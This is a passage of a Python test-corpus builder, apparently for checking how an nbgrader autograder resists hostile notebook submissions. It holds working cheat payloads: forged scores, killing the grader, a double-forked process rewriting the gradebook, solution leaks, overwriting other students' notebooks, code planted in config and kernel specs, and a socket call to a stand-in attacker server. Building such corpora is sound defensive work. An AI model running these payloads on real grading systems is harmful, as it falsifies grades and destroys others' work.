            cell.source = (f"import sys\n\n{cell.source}\n\n\n_wrong_{fn} = {fn}\n\n\n"
                           f"def {fn}(*args, **kwargs):\n"
                           f"    sys.displayhook({value!r})  # an execute_result: the score\n"
                           f"    return _wrong_{fn}(*args, **kwargs)\n")
        return _dump(nb)

    add(Case("partial_credit", "every wrong answer first shows 2 through sys.displayhook: "
             "nbgrader reads a test cell's execute_result as its score",
             {name: scored(2)}, zero, kind="cheat", flagged=True))

    add(Case("partial_over_max", "as partial_credit, with 4000 points for a 2-point cell",
             {name: scored(4000)}, zero, kind="cheat", flagged=True))

    add(Case("partial_text", "as partial_credit, with a text result (nbgrader gives full "
             "marks for a result that is not a number)", {name: scored("all tests passed")}, zero,
             kind="cheat", flagged=True))

    # ---------------------------------------------------------------- kind 2: forged results
    forge = (
        "import json, os, signal\n"
        "_here = os.getcwd()  # autograded/<student>/<assignment>\n"
        "_name = os.path.basename(_here) + '.ipynb'\n"
        "_student = os.path.basename(os.path.dirname(_here))\n"
        "_submitted = os.path.join(_here, '..', '..', '..', 'submitted', _student,\n"
        "                          os.path.basename(_here), _name)\n"
        "with open(_submitted) as _file:\n"
        "    _nb = json.load(_file)\n"
        "for _cell in _nb['cells']:  # every test cell 'passed' with full marks\n"
        "    _meta = _cell.get('metadata', {}).get('nbgrader', {})\n"
        "    if _cell['cell_type'] == 'code' and _meta.get('grade') \\\n"
        "            and not _meta.get('solution'):\n"
        "        _points = {'text/plain': str(_meta['points'])}\n"
        "        _cell['outputs'] = [{'output_type': 'execute_result', 'execution_count': 1,\n"
        "                             'metadata': {}, 'data': _points}]\n"
        "with open(os.path.join(_here, _name), 'w') as _file:\n"
        "    json.dump(_nb, _file)\n"
        "for _up in ('../../../..', '../../../../..'):  # the grading job's result file\n"
        "    try:\n"
        "        with open(os.path.join(_here, _up, 'result.json'), 'w') as _file:\n"
        "            json.dump({'success': True, 'error': ''}, _file)\n"
        "    except OSError:\n"
        "        pass\n"
        "os.kill(os.getppid(), signal.SIGKILL)  # the grading process dies before it writes\n\n\n"
    )
    add(Case("forged_result", "writes a graded notebook with full marks and a success "
             "result file, then kills the grading process", {name: cheat(forge)}, zero,
             kind="cheat", either=True, flagged=True))

    survivor = (
        "import os, sqlite3, sys, time\n"
        "student, roots = sys.argv[2], sys.argv[3:]\n"
        "query = ('UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells '\n"
        "         'WHERE grade_cells.id = grade.cell_id) WHERE notebook_id IN ('\n"
        "         'SELECT submitted_notebook.id FROM submitted_notebook '\n"
        "         'JOIN submitted_assignment '\n"
        "         'ON submitted_notebook.assignment_id = submitted_assignment.id '\n"
        "         'WHERE submitted_assignment.student_id = ?)')\n"
        "for _ in range(60):  # after the grading is over: full marks, again and again\n"
        "    time.sleep(2)\n"
        "    for root in roots:\n"
        "        try:\n"
        "            with sqlite3.connect(os.path.join(root, 'gradebook.db'), timeout=5) as db:\n"
        "                db.execute(query, (student,))\n"
        "        except sqlite3.Error:\n"
        "            pass\n"
    )
    escape_tree = (
        _recon(checkers[0])
        + "import sys\n"
        "_roots = [r for r in _course_roots('proc') if _may_write(r)]\n"
        "_student = os.path.basename(os.path.dirname(os.getcwd()))\n"
        "if os.fork() == 0:  # double fork: the grandchild belongs to no grading process\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        f"        os.execv(sys.executable, [sys.executable, '-c', {survivor!r},\n"
        f"                                  {SURVIVOR_MARK!r}, _student, *_roots])\n"
        "    os._exit(0)\n"
        "os.wait()\n\n\n"
    )
    add(Case("survivor", "a double-forked process outlives the grading and gives its owner "
             "full marks in the gradebook afterwards", {name: cheat(escape_tree)}, zero,
             kind="cheat", flagged=True, either=True))

    # ---------------------------------------------------------------- kind 3: the real course
    for student, how, encoding, source in (
        ("leak_from_checker_file", "file", "base64", "the checkers' __file__"),
        ("leak_from_proc_cwd", "proc", "hex", "/proc/<ancestor>/cwd"),
        ("leak_from_environment", "env", "rot13", "environment variables"),
    ):
        add(Case(student, f"prints every solution notebook, submission and the gradebook, "
                 f"found from {source}, {encoding}-encoded into its feedback",
                 {name: cheat(_recon(checkers[0]) + _leak(how, encoding) + "\n\n")}, zero,
                 kind="cheat", flagged=True))

    exec_solutions = (
        _recon(checkers[0])
        + "import glob, json\n"
        "for _how in ('file', 'proc', 'env'):\n"
        "    for _root in _course_roots(_how):\n"
        "        for _path in glob.glob(os.path.join(_root, 'solutions', '*', '*.ipynb')):\n"
        "            if os.path.basename(_path) != os.path.basename(os.getcwd()) + '.ipynb':\n"
        "                continue\n"
        "            for _cell in json.load(open(_path))['cells']:  # the instructor's answers\n"
        "                _code = ''.join(_cell['source'])\n"
        "                if _cell['cell_type'] == 'code' and 'BEGIN SOLUTION' in _code:\n"
        "                    exec(_code, globals())\n\n\n"
    )
    # the solution cells run in the first answer cell; this student writes no code of
    # their own (their definitions in later cells would replace the instructor's)
    nb = copy.deepcopy(release)
    for cell in _answer_cells(nb):
        cell.source = "# done in the first answer cell\n"
    _answer_cells(nb)[0].source = exec_solutions
    add(Case("exec_solution_notebook", "finds the solution notebook by absolute path and "
             "executes its solution cells", {name: _dump(nb)}, zero, kind="cheat",
             flagged=True))

    def vandal(body: str) -> bytes:
        return cheat(_recon(checkers[0]) + "import glob, json\n"
                     "for _root in _course_roots('proc') + "
                     "_course_roots('file') + _course_roots('env'):\n"
                     "    if not _may_write(_root):\n        continue\n" + body + "\n\n")

    add(Case("overwrites_others", "overwrites every other student's submission with an "
             "empty notebook", {name: vandal(
                 "    _mine = os.path.basename(os.path.dirname(os.getcwd()))\n"
                 "    _others = os.path.join(_root, 'submitted', '*', '*', '*.ipynb')\n"
                 "    for _path in glob.glob(_others):\n"
                 "        if f'/{_mine}/' not in _path:\n"
                 "            with open(_path, 'w') as _file:\n"
                 "                json.dump({'cells': [], 'metadata': {}, 'nbformat': 4,\n"
                 "                           'nbformat_minor': 5}, _file)\n")},
             zero, kind="cheat", flagged=True))

    planted = "".join(f"\\n\\ndef {c}(*args, **kwargs):\\n    return None\\n" for c in checkers)
    add(Case("plants_in_course_lib", "appends no-op checkers to course_lib's checker source "
             "(an editable install: every later kernel imports them)", {name: vandal(
                 "    for _path in glob.glob(os.path.join(_root, 'course_lib', 'checks', "
                 "'*.py')):\n"
                 f"        open(_path, 'a').write('{planted}')\n")},
             zero, kind="cheat", flagged=True))

    add(Case("plants_in_config", "appends Python to nbgrader_config.py, which every later "
             "course or nbgrader command executes", {name: vandal(
                 "    with open(os.path.join(_root, 'nbgrader_config.py'), 'a') as _file:\n"
                 "        _file.write('\\nc.Execute.timeout = 1  # added by a submission\\n')\n")},
             zero, kind="cheat", flagged=True))

    kernel_spec = (
        _recon(checkers[0])
        + "import json, sys\n"
        "from jupyter_core.paths import jupyter_data_dir\n"
        "_dirs = [p for p in os.environ.get('JUPYTER_PATH', '').split(os.pathsep) if p]\n"
        "for _dir in _dirs + [jupyter_data_dir()]:\n"
        "    _spec = os.path.join(_dir, 'kernels', 'python3')\n"
        "    if not _may_write(_spec):\n"
        "        continue\n"
        "    os.makedirs(_spec, exist_ok=True)\n"
        "    with open(os.path.join(_spec, 'kernel.json'), 'w') as _file:\n"
        "        json.dump({'argv': [sys.executable, '-m', 'ipykernel_launcher', '-f',\n"
        "                            '{connection_file}',\n"
        "                            '--InteractiveShellApp.exec_lines=[\"print(1)\"]'],\n"
        "                   'display_name': 'Python 3', 'language': 'python'}, _file)\n\n\n"
    )
    add(Case("plants_kernel_spec", "installs a kernel spec named python3 on the instructor's "
             "Jupyter path: every later kernel runs its code first",
             {name: cheat(kernel_spec)}, zero, kind="cheat", flagged=True))

    network = (
        "import socket\n"
        "try:  # sends its notebook to the attacker's server\n"
        f"    with socket.create_connection(('127.0.0.1', {port}), timeout=3) as _s:\n"
        "        _s.sendall(b'corpus network reached from ' + os.getcwd().encode())\n"
        "    print('network: reached')\n"
        "except OSError as _error:\n"
        "    print('network: no connection', _error)\n\n\n"
    )
    add(Case("network", "opens a TCP connection to a server (a local one stands in)",
             {name: cheat("import os\n" + network)}, zero, kind="cheat", flagged=True))

    # ---------------------------------------------------------------- kind 5: the reference
    function, module = REFERENCE_SHORTCUT[assignment]
    nb = filled(release, solution)
    for cell in _answer_cells(nb):
        if _function_name(cell.source) == function:
            arguments = _signature(cell.source)
            cell.source = (
                f"import {module}\n\n\n"
                f"def {function}({ast.unparse(arguments)}):\n"
                f"    return {module}.{function}({_forward(arguments)})\n"
            )
    add(Case("calls_reference", f"{function} calls {module}.{function} instead of implementing "
             "it", {name: _dump(nb)}, every_test_zero, kind="cheat", flagged=True,
             extra={"checker_must_reject": first_test}))

    arguments = _signature(answers[_meta(_answer_cells(release)[0])["grade_id"]])
    signature, forward = ast.unparse(arguments), _forward(arguments)
    for student, what, body in (
        ("reference_via_sys_modules", "sys.modules",
         f"    return sys.modules[{module!r}].{function}({forward})\n"),
        ("reference_without_profile", "sys.modules, after sys.setprofile(None) (the "
         "checker's watch of the reference is a profile hook)",
         f"    sys.setprofile(None)\n    return sys.modules[{module!r}].{function}({forward})\n"),
        ("reference_recompiled", "inspect.getsource + exec (a new code object the watch "
         "does not know)",
         f"    _namespace = {{'__name__': {module!r}}}  # its dataclasses need a module\n"
         f"    exec(inspect.getsource(sys.modules[{module!r}]), _namespace)\n"
         f"    return _namespace[{function!r}]({forward})\n"),
    ):
        nb = wrong(release, solution)
        _answer_cells(nb)[0].source = (f"import inspect, sys\n\n\n"
                                       f"def {function}({signature}):\n{body}")
        add(Case(student, f"{function} reaches the reference through {what}",
                 {name: _dump(nb)}, zero, kind="cheat", flagged=True))
    return cases


def corrupt(text: bytes) -> bool:
    """True if the bytes are not a JSON document (used to double-check the not_json case)."""
    try:
        json.loads(text)
    except ValueError:
        return True
    return False


# ------------------------------------------------------------------ watching the graders
# Shared by tests/test_grading_corpus.py and benchmarks/bench_autograde.py.


def isolated_env(home: Path, bin_dir: Path) -> dict[str, str]:
    """An environment for a grader run on the corpus: a throw-away HOME (where Jupyter's
    user paths live), the virtual environment's scripts first, one thread per kernel."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("JUPYTER")}
    home.mkdir(parents=True, exist_ok=True)
    env.update(HOME=str(home), PATH=f"{bin_dir}{os.pathsep}{env.get('PATH', '')}",
               OMP_NUM_THREADS="1", MKL_NUM_THREADS="1")
    # what any first Jupyter or IPython start writes in a new HOME, written now, so that
    # only what a submission writes there shows afterwards
    for command in (["jupyter", "migrate"], ["ipython", "-c", "pass"]):
        subprocess.run([str(bin_dir / command[0]), *command[1:]], env=env, check=True,
                       capture_output=True)
    return env


def fingerprint(folder: Path, skip: tuple[str, ...] = ()) -> dict[str, str]:
    """relative path -> sha256 of every file under ``folder`` (links: their target),
    except the top-level entries named in ``skip``."""
    found = {}
    for directory, folders, files in os.walk(folder):
        here = Path(directory)
        if here == folder:
            folders[:] = [f for f in folders if f not in skip]
            files = [f for f in files if f not in skip]
        for name in files + [f for f in folders if (here / f).is_symlink()]:
            path = here / name
            key = path.relative_to(folder).as_posix()
            if path.is_symlink():
                found[key] = "link to " + os.readlink(path)
            else:
                found[key] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


def differences(before: dict[str, str], after: dict[str, str]) -> list[str]:
    """Paths added, removed or changed between two fingerprints."""
    return sorted(k for k in before.keys() | after.keys() if before.get(k) != after.get(k))


# What grading may change in a course folder: the graded copies, the feedback, the
# gradebook; everything else (solutions, submissions, configuration, course_lib) stays.
GRADING_OUTPUTS = ("autograded", "feedback", "gradebook.db")


def survivors(since: float) -> list:
    """Processes a submission left behind (they carry SURVIVOR_MARK), started after
    ``since`` (a time.time())."""
    import psutil

    found = []
    for process in psutil.process_iter(["cmdline", "create_time"]):
        if SURVIVOR_MARK in (process.info["cmdline"] or []) and \
                process.info["create_time"] >= since - 1:
            found.append(process)
    return found


class Listener:
    """A TCP server on a free port of 127.0.0.1 that keeps what it receives: the stand-in
    for an attacker's server (``with Listener() as server: build_corpus(root,
    port=server.port) ...; server.received``)."""

    def __init__(self):
        import socket

        self.received: list[bytes] = []
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.server.settimeout(0.5)
        self.running = True

    def _serve(self) -> None:
        while self.running:
            try:
                connection, _ = self.server.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            with connection:
                connection.settimeout(3)
                try:
                    self.received.append(connection.recv(65536))
                except OSError:
                    self.received.append(b"")

    def __enter__(self) -> Listener:
        import threading

        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self.running = False
        self.thread.join()
        self.server.close()
